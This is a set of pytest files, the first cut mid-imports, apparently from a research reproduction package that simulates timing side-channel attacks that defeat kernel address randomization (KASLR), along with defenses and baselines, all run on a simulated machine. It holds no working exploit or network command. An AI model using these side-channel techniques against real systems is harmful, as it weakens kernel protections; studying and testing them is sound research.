from repro.attacks.kaslr_break import break_kaslr_intel
from repro.attacks.userspace import identify_libraries
from repro.defenses.timer_coarsening import (
    evaluate_timer_coarsening,
    evaluate_tlb_attack_coarsening,
)
from repro.errors import ConfigError
from repro.machine import Machine
from repro.os.linux.lkm import ExperimentLKM


class TestRoc:
    def test_perfect_separation(self):
        points = roc_curve([1, 2, 3], [10, 11, 12])
        assert auc(points) == 1.0

    def test_random_classifier_near_half(self):
        import numpy as np

        rng = np.random.default_rng(0)
        a = list(rng.normal(100, 5, 400))
        b = list(rng.normal(100, 5, 400))
        assert abs(classifier_auc(a, b) - 0.5) < 0.08

    def test_auc_monotone_in_separation(self):
        import numpy as np

        rng = np.random.default_rng(1)
        base = list(rng.normal(100, 5, 300))
        close = list(rng.normal(104, 5, 300))
        far = list(rng.normal(130, 5, 300))
        assert classifier_auc(base, far) > classifier_auc(base, close)

    def test_empty_class_rejected(self):
        with pytest.raises(ValueError):
            roc_curve([], [1])

    def test_youden_picks_separating_threshold(self):
        points = roc_curve([1, 2, 3], [10, 11, 12])
        threshold, j = youden_threshold(points)
        assert 3 <= threshold < 10
        assert j == 1.0

    def test_real_scan_auc_is_one(self):
        machine = Machine.linux(seed=980)
        result = break_kaslr_intel(machine)
        mapped = [result.timings[s] for s in result.mapped_slots]
        unmapped = [
            t for i, t in enumerate(result.timings)
            if i not in set(result.mapped_slots)
        ]
        assert classifier_auc(mapped, unmapped) == 1.0


class TestExperimentLKM:
    @pytest.fixture(scope="class")
    def setup(self):
        machine = Machine.linux(cpu="i7-1065G7", seed=981)
        return machine, ExperimentLKM(machine)

    def test_linux_only(self):
        with pytest.raises(ConfigError):
            ExperimentLKM(Machine.windows(seed=1))

    def test_read_pte_kernel_page(self, setup):
        machine, lkm = setup
        present, perms, size, pfn = lkm.read_pte(machine.kernel.base)
        assert present
        assert perms == "r-x"
        assert size == 2 << 20

    def test_read_pte_unmapped(self, setup):
        machine, lkm = setup
        present, perms, __, __ = lkm.read_pte(machine.playground.unmapped)
        assert not present and perms == "---"

    def test_read_pte_noncanonical_rejected(self, setup):
        __, lkm = setup
        with pytest.raises(ConfigError):
            lkm.read_pte(0x1234_0000_0000_0000)

    def test_invlpg_drops_translation(self, setup):
        machine, lkm = setup
        core = machine.core
        page = machine.playground.user_rw
        core.masked_load(page)
        assert core.tlb.holds(page)
        lkm.invlpg(page)
        assert not core.tlb.holds(page)

    def test_verify_permission_map_confirms_figure7(self, setup):
        """The paper's LKM verification step, replayed end to end."""
        machine, lkm = setup
        identification = identify_libraries(machine)
        mismatches = lkm.verify_permission_map(
            identification.permission_map
        )
        assert mismatches == []

    def test_verify_catches_planted_error(self, setup):
        machine, lkm = setup
        bogus = {machine.playground.user_rw: "---"}
        assert lkm.verify_permission_map(bogus) == [
            machine.playground.user_rw
        ]

    def test_count_mappings_matches_image(self, setup):
        machine, lkm = setup
        kernel = machine.kernel
        count = lkm.count_mappings(
            kernel.base, kernel.base + kernel.image_2m_pages * (2 << 20),
            2 << 20,
        )
        assert count == kernel.image_2m_pages

    def test_call_log_records_everything(self, setup):
        __, lkm = setup
        ops = [op for op, __ in lkm.call_log]
        assert "read_pte" in ops and "invlpg" in ops


class TestTimerCoarsening:
    def test_full_precision_attack_succeeds(self):
        outcome = evaluate_timer_coarsening(resolutions=(1,), trials=3)
        assert outcome.results[1] == 1.0

    def test_coarse_timer_kills_p2(self):
        outcome = evaluate_timer_coarsening(
            resolutions=(1, 64, 128), trials=3
        )
        assert outcome.results[64] < 0.5
        assert outcome.finest_defeated() == 64

    def test_tlb_attack_same_gap_same_fate(self):
        outcome = evaluate_tlb_attack_coarsening(
            resolutions=(1, 8, 64), trials=2
        )
        assert outcome.results[1] == 1.0
        assert outcome.results[8] == 1.0
        assert outcome.results[64] < 0.5

    def test_resolution_applied_to_measurements(self):
        machine = Machine.linux(seed=982)
        machine.core.timer_resolution = 32
        page = machine.playground.user_rw
        machine.core.masked_load(page)
        for _ in range(20):
            assert machine.core.timed_masked_load(page) % 32 == 0
