"""The JSON scenario runner and the shipped scenario files."""

import json
import pathlib

import pytest

from repro.errors import ConfigError
from repro.scenarios import run_scenario, run_suite

SCENARIO_DIR = pathlib.Path(__file__).parent.parent / "scenarios"


def _scenario(**overrides):
    base = {
        "name": "test",
        "machine": {"os": "linux", "cpu": "i5-12400F", "seed": 42},
        "attack": {"kind": "kaslr"},
        "expect": {"correct": True},
    }
    base.update(overrides)
    return base


class TestRunScenario:
    def test_dict_input(self):
        result = run_scenario(_scenario())
        assert result.passed
        assert result.observations["method"] == "intel-p2"

    def test_file_input(self, tmp_path):
        path = tmp_path / "s.json"
        path.write_text(json.dumps(_scenario()))
        assert run_scenario(path).passed

    def test_missing_fields_rejected(self):
        with pytest.raises(ConfigError):
            run_scenario({"name": "x"})

    def test_unknown_attack_kind(self):
        with pytest.raises(ConfigError):
            run_scenario(_scenario(attack={"kind": "rowhammer"}))

    def test_unknown_os(self):
        with pytest.raises(ConfigError):
            run_scenario(_scenario(machine={"os": "plan9"}))

    def test_max_expectation_violation(self):
        result = run_scenario(
            _scenario(expect={"correct": True, "max_total_ms": 0.0001})
        )
        assert not result.passed
        assert any("total_ms" in v for v in result.violations)

    def test_min_expectation_violation(self):
        result = run_scenario(
            _scenario(expect={"min_probing_ms": 10_000})
        )
        assert not result.passed

    def test_equality_expectation_violation(self):
        result = run_scenario(_scenario(expect={"method": "amd-p3"}))
        assert not result.passed
        assert "amd-p3" in result.violations[0]

    def test_missing_observation_counts_as_violation(self):
        result = run_scenario(_scenario(expect={"max_nonexistent": 1}))
        assert not result.passed

    def test_windows_machine_spec(self):
        result = run_scenario({
            "name": "win",
            "machine": {"os": "windows", "cpu": "i5-12400F", "seed": 2},
            "attack": {"kind": "windows-region"},
            "expect": {"correct": True, "bits": 18},
        })
        assert result.passed

    def test_cloud_machine_spec(self):
        result = run_scenario({
            "name": "gce",
            "machine": {"os": "cloud", "provider": "gce", "seed": 3},
            "attack": {"kind": "kaslr"},
            "expect": {"correct": True},
        })
        assert result.passed


class TestShippedScenarios:
    def test_directory_exists_with_scenarios(self):
        assert SCENARIO_DIR.is_dir()
        assert len(list(SCENARIO_DIR.glob("*.json"))) >= 8

    def test_all_shipped_scenarios_well_formed(self):
        for path in SCENARIO_DIR.glob("*.json"):
            scenario = json.loads(path.read_text())
            for field in ("name", "description", "machine", "attack",
                          "expect"):
                assert field in scenario, (path.name, field)

    @pytest.mark.parametrize(
        "stem",
        ["table1_alderlake_base", "sec4d_kpti", "sec4g_windows_region"],
    )
    def test_representative_shipped_scenarios_pass(self, stem):
        result = run_scenario(SCENARIO_DIR / (stem + ".json"))
        assert result.passed, result.violations

    def test_run_suite_over_tmpdir(self, tmp_path):
        for i in range(2):
            (tmp_path / "s{}.json".format(i)).write_text(
                json.dumps(_scenario(name="s{}".format(i)))
            )
        results = run_suite(tmp_path)
        assert [r.name for r in results] == ["s0", "s1"]
        assert all(r.passed for r in results)

    def test_cli_scenario_command(self, capsys):
        from repro.cli import main

        code = main([
            "scenario", str(SCENARIO_DIR / "table1_alderlake_base.json")
        ])
        assert code == 0
        assert "PASS" in capsys.readouterr().out


class TestSupervisedScenarios:
    def test_supervised_kind_reports_verdict_fields(self):
        result = run_scenario(_scenario(
            machine={"os": "linux", "seed": 11, "kpti": False,
                     "chaos": "default"},
            attack={"kind": "supervised", "attack": "kaslr"},
            expect={"correct": True, "status": "found", "max_retries": 3},
        ))
        assert result.passed, result.violations
        assert result.observations["disturbances"] > 0

    def test_shipped_chaos_scenarios_pass(self):
        for stem in ("chaos_default_kaslr", "chaos_rerandomizing_kaslr"):
            result = run_scenario(SCENARIO_DIR / (stem + ".json"))
            assert result.passed, (stem, result.violations)


class TestSuiteCrashHandling:
    def _write(self, tmp_path, name, scenario):
        (tmp_path / name).write_text(json.dumps(scenario))

    def test_pool_survives_a_crashing_scenario(self, tmp_path):
        self._write(tmp_path, "a_good.json", _scenario(name="good"))
        self._write(tmp_path, "b_bad.json", _scenario(
            name="bad", machine={"os": "plan9"}
        ))
        results = run_suite(tmp_path, jobs=2)
        assert len(results) == 2
        by_name = {r.name: r for r in results}
        assert by_name["good"].passed
        crashed = by_name["b_bad"]
        assert not crashed.passed
        assert any("crashed" in v for v in crashed.violations)

    def test_cli_suite_reports_crash_with_nonzero_exit(self, tmp_path,
                                                       capsys):
        from repro.cli import main

        self._write(tmp_path, "a_good.json", _scenario(name="good"))
        self._write(tmp_path, "b_bad.json", _scenario(
            name="bad", machine={"os": "plan9"}
        ))
        code = main(["suite", str(tmp_path), "--jobs", "2"])
        out = capsys.readouterr().out
        assert code == 1
        assert "FAIL" in out and "crashed" in out
        assert "1 / 2 scenarios passed" in out
