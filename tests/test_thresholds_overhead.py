"""Threshold strategies and mitigation-overhead evaluation."""

import pytest

from repro.analysis.thresholds import compare_strategies, otsu, oracle, valley
from repro.attacks.kaslr_break import break_kaslr_intel
from repro.defenses.overhead import (
    fgkaslr_overhead,
    flare_overhead,
    nop_mask_overhead,
)
from repro.machine import Machine


@pytest.fixture(scope="module")
def labelled_scan():
    machine = Machine.linux(seed=600)
    result = break_kaslr_intel(machine)
    mapped = [result.timings[s] for s in result.mapped_slots]
    unmapped = [
        t for i, t in enumerate(result.timings)
        if i not in set(result.mapped_slots)
    ]
    return mapped, unmapped, result.threshold


class TestOtsu:
    def test_separates_clean_bimodal(self):
        values = [100] * 50 + [200] * 50
        threshold = otsu(values)
        assert 100 < threshold < 200

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            otsu([])

    def test_constant_sample(self):
        assert otsu([5, 5, 5]) == 5

    def test_spike_resistant(self):
        values = [100] * 50 + [120] * 50 + [5000] * 2
        threshold = otsu(values)
        assert 100 < threshold < 120

    def test_matches_oracle_on_real_scan(self, labelled_scan):
        mapped, unmapped, __ = labelled_scan
        threshold = otsu(mapped + unmapped)
        oracle_threshold, oracle_errors = oracle(mapped, unmapped)
        fn = sum(1 for v in mapped if v > threshold)
        fp = sum(1 for v in unmapped if v <= threshold)
        assert fn + fp <= oracle_errors + 2


class TestValley:
    def test_separates_clean_bimodal(self):
        values = [100 + (i % 3) for i in range(60)] + \
                 [200 + (i % 3) for i in range(60)]
        threshold = valley(values)
        assert 102 < threshold < 200

    def test_returns_in_range(self, labelled_scan):
        mapped, unmapped, __ = labelled_scan
        pooled = mapped + unmapped
        threshold = valley(pooled)
        assert min(pooled) <= threshold <= max(pooled)


class TestOracleAndComparison:
    def test_oracle_perfect_on_separable(self):
        __, errors = oracle([1, 2, 3], [10, 11, 12])
        assert errors == 0

    def test_paper_threshold_near_oracle(self, labelled_scan):
        """The store-identity calibration is as good as label knowledge."""
        mapped, unmapped, paper_threshold = labelled_scan
        report = compare_strategies(mapped, unmapped, paper_threshold)
        __, fn, fp = report["paper (store identity)"]
        assert fn == 0 and fp == 0
        __, fn, fp = report["otsu"]
        assert fn == 0 and fp == 0

    def test_report_contains_all_strategies(self, labelled_scan):
        mapped, unmapped, paper_threshold = labelled_scan
        report = compare_strategies(mapped, unmapped, paper_threshold)
        assert set(report) == {
            "otsu", "valley", "oracle", "paper (store identity)"
        }


class TestOverheads:
    def test_nop_mask_has_no_legitimate_cost(self):
        """The fix only touches the all-zero-mask path."""
        report = nop_mask_overhead(iterations=400)
        assert report.metrics["slowdown"] == pytest.approx(1.0, abs=0.01)

    def test_flare_costs_about_a_gib(self):
        """Backing ~1 GiB of kernel window with dummies costs frames."""
        report = flare_overhead()
        assert report.metrics["extra_frames"] > 0
        assert 900 < report.metrics["extra_mib"] < 1200

    def test_fgkaslr_inflates_kernel_walks(self):
        report = fgkaslr_overhead(touches=800)
        assert report.metrics["walks_per_touch_4k"] > \
            report.metrics["walks_per_touch_2m"]
        assert report.metrics["walk_inflation"] > 10
