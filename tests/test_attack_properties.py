"""Property-based tests over the attack stack (hypothesis, seeded)."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attacks.kaslr_break import break_kaslr, break_kaslr_intel
from repro.attacks.kpti_break import break_kaslr_kpti
from repro.attacks.module_detect import detect_modules
from repro.machine import Machine
from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M
from repro.os.linux import layout

seeds = st.integers(min_value=0, max_value=10_000)


class TestKaslrBreakProperties:
    @given(seeds)
    @settings(max_examples=15, deadline=None)
    def test_recovered_base_always_2m_aligned_and_in_window(self, seed):
        machine = Machine.linux(seed=seed)
        result = break_kaslr_intel(machine)
        if result.base is None:
            # only possible when every probed slot measured slow -- i.e.
            # spikes hit every mapped slot's rounds, astronomically rare;
            # the structural property below is what we actually pin
            assert result.mapped_slots == []
            return
        assert result.base % PAGE_SIZE_2M == 0
        assert layout.KERNEL_TEXT_START <= result.base < layout.KERNEL_TEXT_END

    @given(seeds)
    @settings(max_examples=15, deadline=None)
    def test_break_correct_or_fails_by_known_mechanism(self, seed):
        """The attack is 99.6% accurate by calibration, so hypothesis may
        legitimately find a failing boot -- but a failure is only
        acceptable through the documented mechanism: an interrupt spike
        inflated the true boundary slot past the threshold, shifting the
        detected run start to a later mapped slot."""
        machine = Machine.linux(seed=seed)
        result = break_kaslr_intel(machine)
        if result.base == machine.kernel.base:
            return
        true_slot = layout.kernel_slot_of(machine.kernel.base)
        # the boundary slot must genuinely have measured slow...
        assert result.timings[true_slot] > result.threshold
        # ...and the recovered base is a nearby slot of the same image run
        assert 0 < result.slot - true_slot < machine.kernel.image_2m_pages

    @given(seeds)
    @settings(max_examples=8, deadline=None)
    def test_kpti_break_correct_or_fails_by_known_mechanism(self, seed):
        machine = Machine.linux(seed=seed, kpti=True)
        result = break_kaslr_kpti(machine)
        if result.base == machine.kernel.base:
            return
        # the only failure mode: the lone trampoline slot's probe rounds
        # got spike-inflated past the threshold and nothing was found
        trampoline_slot = layout.kernel_slot_of(
            machine.kernel.base + machine.kernel.trampoline_offset
        )
        assert result.timings[trampoline_slot] > result.threshold

    @given(seeds)
    @settings(max_examples=10, deadline=None)
    def test_timings_length_and_positivity(self, seed):
        machine = Machine.linux(seed=seed)
        result = break_kaslr_intel(machine)
        assert len(result.timings) == layout.KERNEL_TEXT_SLOTS
        assert all(t > 0 for t in result.timings)

    @given(seeds)
    @settings(max_examples=10, deadline=None)
    def test_dispatch_consistent_with_machine(self, seed):
        machine = Machine.linux(seed=seed)
        assert break_kaslr(machine).method == "intel-p2"


class TestModuleDetectionProperties:
    @given(seeds)
    @settings(max_examples=5, deadline=None)
    def test_regions_disjoint_sorted_and_in_window(self, seed):
        machine = Machine.linux(seed=seed)
        result = detect_modules(machine)
        previous_end = 0
        for region in result.regions:
            assert region.start >= max(previous_end, layout.MODULE_START)
            assert region.start % PAGE_SIZE == 0
            assert region.pages >= 1
            previous_end = region.start + region.pages * PAGE_SIZE
            assert previous_end <= layout.MODULE_END

    @given(seeds)
    @settings(max_examples=5, deadline=None)
    def test_identified_subset_of_catalog(self, seed):
        machine = Machine.linux(seed=seed)
        result = detect_modules(machine)
        names = {name for name, __ in machine.kernel.proc_modules()}
        assert set(result.identified) <= names
        # identified names must be uniquely sized in /proc/modules
        from repro.os.linux.modules import uniquely_sized

        unique = {m.name for m in uniquely_sized(machine.kernel.modules)}
        assert set(result.identified) <= unique


class TestLayoutEntropyProperties:
    @given(st.lists(seeds, min_size=8, max_size=8, unique=True))
    @settings(max_examples=5, deadline=None)
    def test_distinct_seeds_draw_diverse_layouts(self, seed_list):
        bases = {Machine.linux(seed=s).kernel.base for s in seed_list}
        assert len(bases) >= len(seed_list) // 2

    @given(seeds)
    @settings(max_examples=10, deadline=None)
    def test_attack_deterministic_per_seed(self, seed):
        a = break_kaslr_intel(Machine.linux(seed=seed))
        b = break_kaslr_intel(Machine.linux(seed=seed))
        assert a.base == b.base and a.total_ms == b.total_ms
