"""Text-format procfs rendering and parsing."""

import pytest

from repro.os.linux.kernel import LinuxKernel
from repro.os.linux.process import Process
from repro.os.linux.procfs import (
    module_sizes_from_proc,
    parse_kallsyms,
    parse_maps,
    parse_proc_modules,
    render_kallsyms,
    render_maps,
    render_proc_modules,
)


@pytest.fixture(scope="module")
def kernel():
    return LinuxKernel(seed=808)


@pytest.fixture(scope="module")
def process(kernel):
    return Process(kernel)


class TestProcModules:
    def test_roundtrip(self, kernel):
        text = render_proc_modules(kernel, privileged=True)
        entries = parse_proc_modules(text)
        assert len(entries) == 125
        by_name = {name: (size, addr) for name, size, addr in entries}
        size, addr = by_name["video"]
        assert addr == kernel.module_map["video"][0]

    def test_unprivileged_hides_addresses(self, kernel):
        """kptr_restrict: the attack sees sizes, never addresses."""
        entries = parse_proc_modules(render_proc_modules(kernel))
        assert all(addr == 0 for __, __, addr in entries)
        assert all(size > 0 for __, size, __ in entries)

    def test_malformed_line_rejected(self):
        with pytest.raises(ValueError):
            parse_proc_modules("video 53248\n")

    def test_module_sizes_from_proc(self, kernel):
        sizes = module_sizes_from_proc(kernel)
        assert sizes["video"] == 13
        assert sizes["autofs4"] == sizes["x_tables"] == 11


class TestKallsyms:
    def test_privileged_roundtrip(self, kernel):
        symbols = parse_kallsyms(render_kallsyms(kernel, privileged=True))
        assert symbols["_text"] == kernel.base
        assert symbols["sys_read"] == kernel.functions["sys_read"]

    def test_unprivileged_zeroed(self, kernel):
        symbols = parse_kallsyms(render_kallsyms(kernel))
        assert all(address == 0 for address in symbols.values())

    def test_sorted_by_address(self, kernel):
        text = render_kallsyms(kernel, privileged=True)
        addresses = [int(line.split()[0], 16) for line in text.splitlines()]
        assert addresses == sorted(addresses)

    def test_malformed_rejected(self):
        with pytest.raises(ValueError):
            parse_kallsyms("deadbeef T\n")


class TestMaps:
    def test_roundtrip(self, process):
        regions = parse_maps(render_maps(process))
        truth = process.maps()
        assert len(regions) == len(truth)
        starts = {start for start, *_ in regions}
        assert process.text_base in starts

    def test_hidden_pages_absent(self, process):
        regions = parse_maps(render_maps(process))
        hidden = {r.start for r in process.all_regions() if r.hidden}
        shown = {start for start, *_ in regions}
        assert not hidden & shown

    def test_perms_field(self, process):
        regions = parse_maps(render_maps(process))
        text_region = next(
            (start, end, perms, name)
            for start, end, perms, name in regions
            if start == process.text_base
        )
        assert text_region[2] == "r-x"
