"""Property-based tests for the timing model's invariants.

These pin the *relations* the attacks depend on, across arbitrary CPU
models from the catalog and arbitrary noise seeds -- not just the specific
calibrated values.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cpu.core import Core
from repro.cpu.models import CPU_CATALOG, get_cpu_model
from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M
from repro.mmu.flags import PageFlags, flags_from_prot
from repro.mmu.pagetable import AddressSpace

cpu_keys = st.sampled_from(sorted(CPU_CATALOG))
seeds = st.integers(min_value=0, max_value=2**31 - 1)


def _machine_core(cpu_key, seed):
    space = AddressSpace()
    space.map_range(0x10_0000, PAGE_SIZE, flags_from_prot(read=True, write=True))
    kva = 0xFFFF_FFFF_8000_0000
    space.map_range(kva, PAGE_SIZE_2M, PageFlags.PRESENT, PAGE_SIZE_2M)
    core = Core(get_cpu_model(cpu_key), seed=seed)
    core.set_address_space(space)
    return core, space, 0x10_0000, kva


class TestTimingInvariants:
    @given(cpu_keys, seeds)
    @settings(max_examples=40, deadline=None)
    def test_user_mapped_is_fastest_mode(self, cpu_key, seed):
        core, space, user, kernel = _machine_core(cpu_key, seed)
        core.masked_load(user)
        core.masked_load(kernel)
        t_user = core.masked_load(user).cycles
        t_kernel = core.masked_load(kernel).cycles
        t_unmapped = core.masked_load(user + PAGE_SIZE).cycles
        assert t_user < t_kernel
        assert t_user < t_unmapped

    @given(cpu_keys, seeds)
    @settings(max_examples=40, deadline=None)
    def test_intel_p2_amd_no_p2(self, cpu_key, seed):
        """Mapped kernel beats unmapped kernel iff the TLB fills."""
        core, space, __, kernel = _machine_core(cpu_key, seed)
        unmapped_k = kernel + PAGE_SIZE_2M
        core.masked_load(kernel)
        core.masked_load(unmapped_k)
        t_mapped = core.masked_load(kernel).cycles
        t_unmapped = core.masked_load(unmapped_k).cycles
        if core.cpu.fills_tlb_for_supervisor_user_probe:
            assert t_mapped < t_unmapped
        else:
            assert abs(t_mapped - t_unmapped) <= core.cpu.level_step_cycles

    @given(cpu_keys, seeds)
    @settings(max_examples=40, deadline=None)
    def test_store_beats_load_on_kernel_pages(self, cpu_key, seed):
        """P6 holds across the whole catalog."""
        core, __, __, kernel = _machine_core(cpu_key, seed)
        core.masked_load(kernel)
        t_load = core.masked_load(kernel).cycles
        t_store = core.masked_store(kernel).cycles
        assert t_store < t_load

    @given(cpu_keys, seeds)
    @settings(max_examples=40, deadline=None)
    def test_eviction_always_slows_next_access(self, cpu_key, seed):
        core, __, user, __ = _machine_core(cpu_key, seed)
        core.masked_load(user)
        warm = core.masked_load(user).cycles
        core.evict_translation_caches()
        cold = core.masked_load(user).cycles
        assert cold > warm

    @given(cpu_keys, seeds)
    @settings(max_examples=40, deadline=None)
    def test_measured_at_least_true_plus_overhead(self, cpu_key, seed):
        core, __, user, __ = _machine_core(cpu_key, seed)
        core.masked_load(user)
        true_cycles = core.masked_load(user).cycles
        measured = core.timed_masked_load(user)
        assert measured >= true_cycles + core.cpu.measurement_overhead

    @given(cpu_keys, seeds)
    @settings(max_examples=40, deadline=None)
    def test_clock_monotone_under_any_op_sequence(self, cpu_key, seed):
        core, __, user, kernel = _machine_core(cpu_key, seed)
        last = core.clock.cycles
        for op in (core.masked_load, core.masked_store,
                   core.timed_masked_load, core.timed_masked_store):
            op(user)
            assert core.clock.cycles > last
            last = core.clock.cycles

    @given(cpu_keys, seeds)
    @settings(max_examples=20, deadline=None)
    def test_threshold_identity_across_catalog(self, cpu_key, seed):
        """Store-on-clean-USER-M ~ kernel-mapped-load, per Section IV-B.

        AMD is exempt: its kernel loads never TLB-hit, so the identity is
        defined differently there (the attack does not use it).
        """
        cpu = get_cpu_model(cpu_key)
        if not cpu.fills_tlb_for_supervisor_user_probe:
            return
        core, __, user, kernel = _machine_core(cpu_key, seed)
        core.masked_load(kernel)
        core.masked_store(user)      # warm the user page's TLB entry
        t_kernel_load = core.masked_load(kernel).cycles
        t_store = core.masked_store(user).cycles
        assert abs(t_store - t_kernel_load) <= 2


class TestNoiseInvariants:
    @given(cpu_keys, seeds)
    @settings(max_examples=30, deadline=None)
    def test_noise_only_inflates(self, cpu_key, seed):
        core, __, user, __ = _machine_core(cpu_key, seed)
        core.masked_load(user)
        floor = core.masked_load(user).cycles + core.cpu.measurement_overhead
        for _ in range(20):
            assert core.timed_masked_load(user) >= floor

    @given(seeds)
    @settings(max_examples=20, deadline=None)
    def test_same_seed_same_measurements(self, seed):
        a_core, *_ , __ = _machine_core("i5-12400F", seed)
        b_core, *_ , __ = _machine_core("i5-12400F", seed)
        a = [a_core.timed_masked_load(0x10_0000) for _ in range(10)]
        b = [b_core.timed_masked_load(0x10_0000) for _ in range(10)]
        assert a == b
