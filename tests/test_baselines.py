"""Prior-art baselines: prefetch timing and TSX abort timing."""

import pytest

from repro.attacks.baselines import (
    break_kaslr_prefetch,
    break_kaslr_tsx,
    compare_with_baselines,
)
from repro.errors import ConfigError
from repro.machine import Machine


class TestProbePrimitives:
    def test_prefetch_never_faults(self):
        machine = Machine.linux(seed=991)
        # kernel, unmapped, PROT_NONE: prefetch is architecturally silent
        for va in (machine.kernel.base, machine.playground.unmapped,
                   machine.playground.user_none):
            machine.core.timed_prefetch(va)

    def test_prefetch_carries_translation_signal(self):
        machine = Machine.linux(seed=992)
        core = machine.core
        base = machine.kernel.base
        core.masked_load(base)  # warm translation
        import statistics

        mapped = statistics.median(
            [core.timed_prefetch(base) for _ in range(200)]
        )
        unmapped = statistics.median(
            [core.timed_prefetch(base - (2 << 20)) for _ in range(200)]
        )
        assert mapped < unmapped

    def test_prefetch_drops_produce_fast_mode(self):
        machine = Machine.linux(seed=993)
        core = machine.core
        samples = [
            core.timed_prefetch(machine.kernel.base - (2 << 20))
            for _ in range(300)
        ]
        floor = machine.cpu.prefetch_base + machine.cpu.measurement_overhead
        dropped = sum(1 for s in samples if s < floor + 10)
        expected = machine.cpu.prefetch_drop_prob * 300
        assert abs(dropped - expected) < 60

    def test_tsx_requires_support(self):
        machine = Machine.linux(seed=994)  # Alder Lake: no TSX
        with pytest.raises(ConfigError):
            machine.core.tsx_probe(machine.kernel.base)

    def test_tsx_probe_signal_on_capable_part(self):
        machine = Machine.linux(cpu="i9-9900", seed=995)
        core = machine.core
        base = machine.kernel.base
        core.tsx_probe(base)
        hit = core.tsx_probe(base)
        miss = core.tsx_probe(base - (2 << 20))
        assert hit < miss


class TestBaselineAttacks:
    def test_prefetch_break_works_but_slower(self):
        machine = Machine.linux(seed=996)
        result = break_kaslr_prefetch(machine)
        assert result.method == "prefetch"
        assert result.base == machine.kernel.base
        from repro.attacks.kaslr_break import break_kaslr_intel

        avx = break_kaslr_intel(Machine.linux(seed=996))
        assert result.probing_ms > 5 * avx.probing_ms

    def test_tsx_break_on_coffee_lake(self):
        machine = Machine.linux(cpu="i9-9900", seed=997)
        result = break_kaslr_tsx(machine)
        assert result.base == machine.kernel.base
        assert result.method == "tsx"

    def test_tsx_break_refused_on_modern_parts(self):
        for cpu in ("i5-12400F", "i7-1065G7", "ryzen5-5600X"):
            with pytest.raises(ConfigError):
                break_kaslr_tsx(Machine.linux(cpu=cpu, seed=998))

    def test_comparison_report_structure(self):
        report = compare_with_baselines(
            lambda s: Machine.linux(cpu="i9-9900", seed=s), trials=2
        )
        assert set(report) == {
            "avx (this paper)", "prefetch (Gruss et al.)",
            "tsx / DrK (Jang et al.)",
        }
        assert report["avx (this paper)"]["wins"] == 2
        assert report["tsx / DrK (Jang et al.)"]["available"]

    def test_comparison_flags_tsx_unavailable_on_modern(self):
        report = compare_with_baselines(
            lambda s: Machine.linux(seed=s), trials=2
        )
        assert not report["tsx / DrK (Jang et al.)"]["available"]
        assert report["avx (this paper)"]["wins"] == 2
