"""The ISA subset: assembler, executor, registers, and the PoC programs."""

import pytest

from repro.isa.assembler import AssemblyError, assemble
from repro.isa.executor import ExecutionError, Executor, Program
from repro.isa.programs import (
    run_double_probe_poc,
    run_kaslr_scan_poc,
    run_store_calibration_poc,
)
from repro.isa.registers import RegisterFile
from repro.errors import PageFault
from repro.machine import Machine
from repro.os.linux import layout


class TestRegisterFile:
    def test_gpr_roundtrip(self):
        regs = RegisterFile()
        regs.write("rax", 0x1234)
        assert regs.read("rax") == 0x1234

    def test_gpr_wraps_at_64_bits(self):
        regs = RegisterFile()
        regs.write("rbx", 1 << 65)
        assert regs.read("rbx") == 0

    def test_ymm_width_enforced(self):
        regs = RegisterFile()
        with pytest.raises(ValueError):
            regs.write_ymm("ymm0", b"\x00" * 16)

    def test_ymm_mask_reads_element_msbs(self):
        regs = RegisterFile()
        data = bytearray(32)
        data[3] = 0x80          # element 0 MSB
        data[31] = 0x80         # element 7 MSB
        regs.write_ymm("ymm0", bytes(data))
        mask = regs.ymm_mask("ymm0")
        assert mask == (True, False, False, False, False, False, False, True)

    def test_flags_from_value(self):
        regs = RegisterFile()
        regs.set_flags_from(0)
        assert regs.zf and not regs.sf
        regs.set_flags_from((1 << 64) - 5)  # negative
        assert regs.sf and not regs.zf


class TestAssembler:
    def test_basic_program(self):
        instructions, labels = assemble("mov rax, 5\nadd rax, rbx\nret")
        assert [i.mnemonic for i in instructions] == ["mov", "add", "ret"]

    def test_labels_and_comments(self):
        instructions, labels = assemble(
            "start:           ; entry\n"
            "  mov rax, 1\n"
            "  jmp start      ; loop forever\n"
        )
        assert labels == {"start": 0}
        assert len(instructions) == 2

    def test_memory_operands(self):
        instructions, __ = assemble("vpmaskmovd ymm1, ymm0, [rdi+0x20]")
        mem = instructions[0].operands[2]
        assert mem.kind == "mem"
        assert mem.base == "rdi" and mem.displacement == 0x20

    def test_negative_displacement(self):
        instructions, __ = assemble("vpmaskmovd ymm1, ymm0, [rax-8]")
        assert instructions[0].operands[2].displacement == -8

    def test_unknown_mnemonic(self):
        with pytest.raises(AssemblyError):
            assemble("fadd st0, st1")

    def test_wrong_arity(self):
        with pytest.raises(AssemblyError):
            assemble("mov rax")

    def test_undefined_branch_target(self):
        with pytest.raises(AssemblyError):
            assemble("jmp nowhere")

    def test_duplicate_label(self):
        with pytest.raises(AssemblyError):
            assemble("x:\nnop\nx:\nnop")

    def test_branch_to_register_rejected(self):
        with pytest.raises(AssemblyError):
            assemble("jmp rax")

    def test_error_carries_line_number(self):
        with pytest.raises(AssemblyError) as info:
            assemble("nop\nbogus rax")
        assert "line 2" in str(info.value)


@pytest.fixture
def machine():
    return Machine.linux(seed=123)


class TestExecutor:
    def test_arithmetic(self, machine):
        regs = Executor(machine.core).run(
            "mov rax, 10\nadd rax, 32\nsub rax, 2\nret"
        )
        assert regs.read("rax") == 40

    def test_shl_or(self, machine):
        regs = Executor(machine.core).run(
            "mov rax, 1\nshl rax, 32\nor rax, 5\nret"
        )
        assert regs.read("rax") == (1 << 32) | 5

    def test_loop_with_branch(self, machine):
        source = """
            mov rcx, 0
            mov rax, 0
        loop:
            add rax, 2
            add rcx, 1
            cmp rcx, 10
            jl loop
            ret
        """
        regs = Executor(machine.core).run(source)
        assert regs.read("rax") == 20

    def test_je_jne(self, machine):
        source = """
            mov rax, 5
            cmp rax, 5
            je equal
            mov rbx, 1
            ret
        equal:
            mov rbx, 2
            ret
        """
        assert Executor(machine.core).run(source).read("rbx") == 2

    def test_inputs_preloaded(self, machine):
        regs = Executor(machine.core).run(
            "add rdi, 1\nret", inputs={"rdi": 41}
        )
        assert regs.read("rdi") == 42

    def test_infinite_loop_guard(self, machine):
        executor = Executor(machine.core, max_steps=100)
        with pytest.raises(ExecutionError):
            executor.run("spin:\njmp spin")

